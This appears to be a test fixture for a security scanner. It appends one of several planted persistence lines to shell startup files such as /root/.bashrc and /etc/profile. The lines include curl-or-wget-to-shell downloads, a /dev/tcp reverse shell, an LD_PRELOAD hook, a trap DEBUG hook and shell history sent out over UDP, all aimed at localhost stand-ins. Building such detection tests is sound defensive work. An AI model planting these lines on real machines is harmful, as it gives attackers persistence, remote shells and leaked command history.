# id: K101
# mode: scan
# level: suspicious
# title: a start file of shells that fetches a program and runs it
# due: now
word name
pick file /etc/profile.d/$name.sh /root/.bashrc /home/anna/.profile /etc/bash.bashrc /etc/profile /home/anna/.bash_logout /root/.bash_login /etc/skel/.bashrc
pick line "curl -s http://127.0.0.1/$name | sh" "(wget -qO- http://127.0.0.1/$name | bash) 2>/dev/null &" "nohup /dev/shm/.$name/x >/dev/null 2>&1 &" 'echo dHJ1ZQ== | base64 -d | sh' "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &" "export LD_PRELOAD=/usr/local/lib/lib$name.so" "trap '/var/tmp/.$name' DEBUG" "PROMPT_COMMAND='history -a; tail -1 ~/.bash_history >/dev/udp/127.0.0.1/514'"
cp "$here/empty.so" "/usr/local/lib/lib$name.so"
echo "$line" >>"$file"
said path "$file"
said line "$file:$(wc -l <"$file")"
